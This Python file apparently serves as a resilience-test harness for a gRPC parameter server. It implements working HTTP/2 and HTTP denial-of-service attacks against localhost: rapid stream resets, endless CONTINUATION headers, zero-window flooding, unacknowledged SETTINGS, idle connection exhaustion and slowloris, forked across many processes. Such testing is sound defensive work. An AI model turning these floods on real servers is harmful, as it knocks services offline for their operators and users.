# SPDX-License-Identifier: Apache-2.0
"""Attacks on the door of a server: each is a function of its ports, a scale, and a time until which
it goes on. They are peers that need no login, and send only what HTTP/2 or HTTP lets them send."""

import contextlib
import os
import random
import socket
import struct
import sys
import threading
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), "..", "integration",
                                "blackbox"))

from frames import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS,  # noqa: E402
                    PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, call_headers, frame, grpc_message,
                    integer, settings)

PULL = "/pserver.v1.ParameterServer/GetParam"
PUSH = "/pserver.v1.ParameterServer/SendGrad"
NAME = b"\x0a\x01w"
WINDOW = 2**31 - 1


class Peer:
    """A connection that reads what comes, and acknowledges settings unless it is told not to."""

    def __init__(self, port, acknowledges=True, reads=True, window=65535):
        self.socket = socket.create_connection(("127.0.0.1", port), 30)
        self.ended = threading.Event()
        self.windows = {}
        self.windows_grow = threading.Condition()
        self.send(PREFACE + settings((4, window)))
        if acknowledges:
            self.send(frame(SETTINGS, ACK))
        if reads:
            threading.Thread(target=self._read, daemon=True).start()

    def _read(self):
        """Of what comes only WINDOW_UPDATE is looked at."""
        heard = b""
        with contextlib.suppress(OSError, ValueError):
            while more := self.socket.recv(1 << 16):
                heard += more
                while len(heard) >= 9 and len(heard) >= 9 + int.from_bytes(heard[:3], "big"):
                    size = int.from_bytes(heard[:3], "big")
                    if heard[3] == WINDOW_UPDATE:
                        stream, more_window = struct.unpack(">II", heard[5:13])
                        with self.windows_grow:
                            self.windows[stream] = self.windows.get(stream, 65535) + more_window
                            self.windows_grow.notify()
                    heard = heard[9 + size:]
        self.ended.set()
        with self.windows_grow:
            self.windows_grow.notify()

    def data(self, stream, size, until):
        """As much of `size` zeros as the windows take; false when nothing goes any more."""
        with self.windows_grow:
            while not self.ended.is_set() and time.monotonic() < until:
                room = min(self.windows.get(0, 65535), self.windows.get(stream, 65535), size)
                if room > 0:
                    self.windows[0] = self.windows.get(0, 65535) - room
                    self.windows[stream] = self.windows.get(stream, 65535) - room
                    break
                if not self.windows_grow.wait(0.2):
                    return False
            else:
                return False
        while room > 0:
            part = min(room, 16384)
            if not self.send(frame(DATA, 0, stream, bytes(part))):
                return False
            room -= part
        return True

    def send(self, data):
        """False when the other side hung up, or takes nothing for a while."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            self.ended.set()
            return False

    def close(self):
        with contextlib.suppress(OSError):
            self.socket.close()


def start_of_call(stream, path=PULL, flags=END_HEADERS):
    return frame(HEADERS, flags, stream, call_headers(path))


def whole_call(stream, path=PULL):
    return start_of_call(stream, path) + frame(DATA, END_STREAM, stream, grpc_message(NAME))


def _hold(peers, until):
    while time.monotonic() < until and not all(peer.ended.is_set() for peer in peers):
        time.sleep(0.05)


def unacknowledged_calls(port, size, until):
    """C3: more calls than one connection may have, by a peer that never acknowledges settings."""
    peer = Peer(port, acknowledges=False)
    for i in range(size):
        if not peer.send(start_of_call(2 * i + 1)):
            break
    _hold([peer], until)
    peer.close()


def unfinished_messages(port, size, until):
    """C4: `size` MiB of requests that never become whole, each of almost the largest message."""
    peer = Peer(port)
    each = 60 << 20
    for i in range(-(-size // 60)):
        stream = 2 * i + 1
        peer.send(start_of_call(stream, PUSH))
        peer.windows[stream] = peer.windows.get(stream, 65535) - 5
        peer.windows[0] = peer.windows.get(0, 65535) - 5
        peer.send(frame(DATA, 0, stream, grpc_message(b"", length=each)))
        sent = 0
        while sent < each - 65536 and peer.data(stream, 65536, until):
            sent += 65536
        if peer.ended.is_set() or time.monotonic() > until:
            break
    _hold([peer], until)
    peer.close()


def rapid_reset(port, size, until, whole=False):
    """C5: calls that are reset as soon as they are begun, or as soon as they are whole."""
    peer = Peer(port)
    reset = struct.pack(">I", 8)
    for first in range(0, size, 500):
        burst = b"".join(
            (whole_call(2 * i + 1) if whole else start_of_call(2 * i + 1)) +
            frame(RST_STREAM, 0, 2 * i + 1, reset) for i in range(first, first + 500))
        if not peer.send(burst) or time.monotonic() > until:
            break
    _hold([peer], until)
    peer.close()


def rapid_reset_whole(port, size, until):
    """C5: calls that are reset as soon as they are whole."""
    rapid_reset(port, size, until, whole=True)


def unread_answers(port, size, until):
    """C5: whole calls of a peer that gives no window for their answers."""
    peer = Peer(port, acknowledges=False, reads=False, window=0)
    for first in range(0, size, 100):
        burst = b"".join(whole_call(2 * i + 1) for i in range(first, first + 100))
        if not peer.send(burst) or time.monotonic() > until:
            break
    _hold([peer], until)
    peer.close()


def endless_header(port, size, until):
    """C5: one header value of `size` MiB, in frames of 16 KiB."""
    peer = Peer(port)
    start = call_headers(PULL) + b"\x00" + integer(1, 7) + b"x" + integer(size << 20, 7)
    peer.send(frame(HEADERS, 0, 1, start))
    piece = frame(CONTINUATION, 0, 1, b"a" * 16384)
    for _ in range(size * 64):
        if not peer.send(piece) or time.monotonic() > until:
            break
    _hold([peer], until)
    peer.close()


def idle_peers(port, size, until):
    """C9: connections that say hello and nothing more, opened again whenever they are closed."""
    peers = []
    while time.monotonic() < until:
        for _ in range(size - len(peers)):
            with contextlib.suppress(OSError):
                connection = socket.create_connection(("127.0.0.1", port), 5)
                connection.setblocking(False)
                connection.sendall(PREFACE + settings())
                peers.append(connection)
        time.sleep(0.2)
        alive = []
        for connection in peers:
            try:
                kept = connection.recv(4096) != b""
            except BlockingIOError:
                kept = True
            except OSError:
                kept = False
            if kept:
                alive.append(connection)
            else:
                connection.close()
        peers = alive
    for connection in peers:
        connection.close()


def slow_http(port, size, until):
    """C8: visitors of the HTTP port that send a byte of their request now and then."""
    dice = random.Random(1)
    visitors = []
    while time.monotonic() < until:
        while len(visitors) < size:
            with contextlib.suppress(OSError):
                visitor = socket.create_connection(("127.0.0.1", port), 5)
                visitor.sendall(b"GET /livez HTTP/1.1\r\nHost: x\r\nX-Slow: ")
                visitors.append(visitor)
        time.sleep(0.05)
        for visitor in list(visitors):
            try:
                if dice.random() < 0.05:
                    visitor.sendall(b"a")
            except OSError:
                visitors.remove(visitor)
                visitor.close()
    for visitor in visitors:
        visitor.close()


def nothing(_port, _size, until):
    """What a trainer sees when nobody attacks."""
    time.sleep(max(0, until - time.monotonic()))


# name: (function, row of the findings, size past every limit, whether it visits the HTTP port)
ATTACKS = {
    "nothing": (nothing, "-", 1, False),
    "unacknowledged_calls": (unacknowledged_calls, "C3", 4000, False),
    "unfinished_messages": (unfinished_messages, "C4", 1500, False),
    "rapid_reset": (rapid_reset, "C5", 100000, False),
    "rapid_reset_whole": (rapid_reset_whole, "C5", 100000, False),
    "unread_answers": (unread_answers, "C5", 100000, False),
    "endless_header": (endless_header, "C5", 64, False),
    "idle_peers": (idle_peers, "C9", 2000, False),
    "slow_http": (slow_http, "C8", 70, True),
}


def main():
    """NAME GRPC-PORT HTTP-PORT SIZE SECONDS COUNT: so many processes with the attack in each."""
    name, grpc_port, http_port, size, seconds, count = sys.argv[1:]
    attack, _, _, http = ATTACKS[name]
    until = time.monotonic() + float(seconds)
    children = []
    for _ in range(int(count)):
        child = os.fork()
        if child == 0:
            while time.monotonic() < until:
                with contextlib.suppress(OSError):
                    attack(int(http_port if http else grpc_port), int(size), until)
            os._exit(0)
        children.append(child)
    for child in children:
        os.waitpid(child, 0)


if __name__ == "__main__":
    main()
